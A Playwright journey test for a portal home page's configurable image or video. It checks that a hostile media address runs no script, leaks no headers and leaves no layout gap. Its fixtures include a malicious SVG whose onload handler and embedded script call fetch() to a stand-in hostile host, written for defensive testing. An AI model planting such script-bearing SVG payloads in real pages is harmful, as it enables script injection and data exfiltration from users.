// Journey test of the home with a hostile picture address: no script runs, no data is leaked, no gap remains.
import type { Page, Request } from 'playwright/test'
import { hugeHeader, pngWithAlpha } from '../../support/files/pictures.ts'
import { signInAs } from '../../support/journey/portal.ts'
import { expect, test } from '../../support/journey/test.ts'

const HOST = 'https://hostil.ejemplo.ec'
const SCRIPTED = `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" onload="fetch('${HOST}/robo')">
  <script>window.ran = true; fetch('${HOST}/robo')</script><image href="${HOST}/robo" width="9" height="9"/></svg>`
const PICTURE = pngWithAlpha({ width: 60, height: 40 })
const HTML = '<!doctype html><script>window.ran = true</script><h1>Gane un premio</h1>'

const ADDRESSES: Record<
  string,
  { status?: number; contentType?: string; headers?: Record<string, string>; body?: string | Buffer }
> = {
  '/guion.svg': { contentType: 'image/svg+xml', body: SCRIPTED },
  '/pagina': { contentType: 'text/html', body: HTML },
  '/pagina.mp4': { contentType: 'video/mp4', body: HTML },
  '/sin-tls.png': { status: 302, headers: { location: 'http://hostil.ejemplo.ec/otra.png' } },
  '/inmensa.png': { contentType: 'image/png', body: hugeHeader('png') },
  '/ajena.png': { status: 404, contentType: 'text/html', body: HTML },
}

// Not in every gate: tests/api/answers.test.ts fails sooner.
test('NAV-06a with a hostile picture address no script runs, no data is leaked, and a picture that cannot be shown leaves no gap', async ({
  page,
}) => {
  const requests: Request[] = []
  page.on('request', (request) => void (/hostil/.test(request.url()) && requests.push(request)))
  await page.route(`${HOST}/**`, (route) => {
    const answer = ADDRESSES[new URL(route.request().url()).pathname]
    // The route answers only the addresses under test; other requests stay without an answer.
    return answer && route.fulfill(answer)
  })
  // The redirect leads to a real picture, so only the content security policy can block it.
  await page.route('http://hostil.ejemplo.ec/**', (route) => route.fulfill({ contentType: 'image/png', body: PICTURE }))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      sessionStorage.setItem('violation', `${effectiveDirective} ${blockedURI}`)
    })
  })
  await page.clock.install()
  const media = page.locator('main').locator('img, video')
  const words = page.getByText('Tu usuario aún no tiene pólizas asociadas')
  const message = page.getByText('Su navegador no puede reproducir este video.')
  const show = async (tipo: 'IMAGEN' | 'VIDEO', path: string) => {
    await page.unroute('**/api/config-home')
    await page.route('**/api/config-home', (route) =>
      route.fulfill({ headers: { 'x-portal': '1' }, json: { show: true, tipo, url: HOST + path } }),
    )
    await page.reload()
    await expect(words).toBeVisible()
    // The test waits until the browser has requested the address.
    await expect.poll(() => requests.some((request) => request.url().startsWith(HOST + path))).toBe(true)
  }
  await signInAs(page, 'nuevo', '/home')
  const top = await topOf(page)

  await test.step('a drawing with a script is only a picture', async () => {
    await show('IMAGEN', '/guion.svg')
    await expect.poll(() => media.last().evaluate((image) => (image as HTMLImageElement).naturalWidth)).toBe(60)
    await expect(media.last()).toHaveCSS('opacity', '1')
  })

  for (const path of ['/pagina', '/sin-tls.png', '/inmensa.png', '/ajena.png'])
    await test.step(`${path} as a picture leaves no gap`, async () => {
      await show('IMAGEN', path)
      await expect(media).toHaveCount(0)
      expect(await topOf(page)).toBe(top)
    })

  const violation = () => page.evaluate(() => sessionStorage.getItem('violation'))
  await expect.poll(violation).toBe(`img-src ${HOST}/sin-tls.png`)

  await test.step('a page is no video', async () => {
    await show('VIDEO', '/pagina.mp4')
    await expect(message).toBeVisible()
    await expect(media).toHaveCount(0)
  })

  for (const tipo of ['IMAGEN', 'VIDEO'] as const)
    await test.step(`${tipo}: a media file without an answer is given up, and its request ends`, async () => {
      const path = `/nunca-${tipo}`
      const ended = page.waitForEvent('requestfailed', (request) => request.url().startsWith(HOST + path))
      await show(tipo, path)
      await expect(media.first()).toBeInViewport()
      const before = await topOf(page)
      await page.clock.fastForward(21_000)
      await expect(media).toHaveCount(0)
      await expect(message).toHaveCount(tipo === 'VIDEO' ? 1 : 0)
      expect(await topOf(page)).toBe(before)
      await ended
    })

  expect(await page.evaluate(() => 'ran' in window), 'no script has run').toBe(false)
  for (const request of requests) {
    expect(request.url(), 'nothing goes where a script sends it').not.toContain('robo')
    if (request.url().startsWith('http:')) expect(request.failure()).not.toBeNull()
    const { referer = '', cookie = '', authorization = '' } = await request.allHeaders()
    expect([referer, cookie, authorization]).toEqual(['', '', ''])
  }
})

const topOf = async (page: Page) => (await page.getByText('Tu usuario aún no tiene pólizas asociadas').boundingBox())?.y
